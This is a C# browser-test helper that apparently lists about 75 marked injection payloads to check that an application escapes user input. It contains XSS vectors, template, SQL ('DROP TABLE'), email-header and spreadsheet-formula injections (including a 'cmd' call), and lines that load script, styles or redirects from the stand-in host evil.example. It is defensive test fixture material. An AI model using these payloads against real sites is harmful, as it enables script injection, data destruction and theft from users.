using System.Globalization;

namespace Kumppani.Tests.Browser;

/// <summary>What somebody writes into a field who wants it to run where others read it. Each carries a mark by which it is found again.</summary>
internal static class Payloads
{
    private static readonly string[] _patterns =
    [
        "<script>alert('{0}')</script>", "<ScRiPt>alert('{0}')</sCrIpT>", "</script><script>alert('{0}')</script>", "<script src=//evil.example/{0}.js></script>", "<script/x>alert('{0}')</script>",
        "<img src=/{0} onerror=alert('{0}')>", "\"><img src=/{0} onerror=alert('{0}')>", "'><img src=/{0} onerror=alert('{0}')>", "<img src=\"/{0}\" onerror=\"alert('{0}')\"", "<IMG \"\"\"><SCRIPT>alert('{0}')</SCRIPT>\">",
        "<svg onload=alert('{0}')>", "<svg/onload=alert('{0}')>", "<svg><script>alert('{0}')</script></svg>", "<svg><animate onbegin=alert('{0}') attributeName=x dur=1s>", "<svg><a xlink:href=\"javascript:alert('{0}')\"><text y=20>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=/{0} onerror=alert('{0}')>", "<body onload=alert('{0}')>", "<iframe src=javascript:alert('{0}')></iframe>", "<iframe srcdoc=\"<script>alert('{0}')</script>\"></iframe>", "<object data=javascript:alert('{0}')></object>",
        "<embed src=javascript:alert('{0}')>", "<details open ontoggle=alert('{0}')>", "<input autofocus onfocus=alert('{0}')>", "<select autofocus onfocus=alert('{0}')>", "<textarea autofocus onfocus=alert('{0}')>",
        "</textarea><script>alert('{0}')</script>", "</title><script>alert('{0}')</script>", "</option></select><script>alert('{0}')</script>", "<video><source onerror=alert('{0}')></video>", "<audio src=/{0} onerror=alert('{0}')>",
        "<marquee onstart=alert('{0}')>", "<form action=javascript:alert('{0}')><button>x</button></form>", "<button formaction=javascript:alert('{0}')>x</button>", "<a href=\"javascript:alert('{0}')\">x</a>", "javascript:alert('{0}')",
        "jav\tascript:alert('{0}')", "JaVaScRiPt:alert('{0}')", "[x](javascript:alert('{0}'))", "![x](javascript:alert('{0}'))", "[x](data:text/html,<script>alert('{0}')</script>)",
        "<data:text/html,{0}>", "vbscript:msgbox('{0}')", "\" onmouseover=\"alert('{0}')", "' onmouseover='alert('{0}')", "\" autofocus onfocus=alert('{0}') x=\"",
        "` onload=alert('{0}') `", "{{constructor.constructor('alert(\"{0}\")')()}}", "${alert('{0}')}", "<%= '{0}' %>", "@({0}.GetType())",
        "#{'{0}'}", "&lt;script&gt;alert('{0}')&lt;/script&gt;", "&#60;script&#62;alert('{0}')&#60;/script&#62;", "\\u003cscript\\u003ealert('{0}')\\u003c/script\\u003e", "%3Cscript%3Ealert('{0}')%3C/script%3E",
        "+ADw-script+AD4-alert('{0}')+ADw-/script+AD4-", "\u202E>tpircs<{0}\u202C", "\u2028alert('{0}')\u2029", "=HYPERLINK(\"https://evil.example/{0}\",\"x\")", "=cmd|' /C calc'!{0}",
        "@SUM({0})", "{0}\r\nBcc: evil@example.com", "{0}\r\n\r\n<script>alert('{0}')</script>", "'; DROP TABLE persons; -- {0}", "<style>@import '//evil.example/{0}';</style>",
        "<link rel=stylesheet href=//evil.example/{0}>", "<meta http-equiv=refresh content=\"0;url=//evil.example/{0}\">", "<base href=//evil.example/{0}/>", "<!--<img src=\"--><img src=/{0} onerror=alert('{0}')>", "<![CDATA[<script>alert('{0}')</script>]]>",
        "<x contenteditable onblur=alert('{0}')>{0}", "<p style=\"background:url(//evil.example/{0})\">x</p>", "<noscript><p title=\"</noscript><img src=/{0} onerror=alert('{0}')>\">", "<template><script>alert('{0}')</script></template>", "ﷺ𝕿ä̈{0}",
    ];

    public static IReadOnlyList<(string Mark, string Text)> All { get; } =
        [.. _patterns.Select((pattern, index) => ($"kp{index:00}x", string.Format(CultureInfo.InvariantCulture, Braces(pattern), $"kp{index:00}x")))];

    // As many of them, from this turn on, as a field of this length holds, one at least.
    public static string Packed(ref int turn, int length)
    {
        var text = "";
        for (var count = 0; count < All.Count; count++)
        {
            var next = All[turn % All.Count].Text;
            if (text.Length + next.Length + 1 > length)
            {
                if (text.Length == 0) (text, turn) = (next[..Math.Min(length, next.Length)], turn + 1);
                break;
            }

            (text, turn) = ($"{text}{next} ", turn + 1);
        }

        return text.TrimEnd();
    }

    // Only {0} is a place to fill.
    private static string Braces(string pattern) =>
        pattern.Replace("{0}", "\u0001", StringComparison.Ordinal).Replace("{", "{{", StringComparison.Ordinal).Replace("}", "}}", StringComparison.Ordinal).Replace("\u0001", "{0}", StringComparison.Ordinal);
}
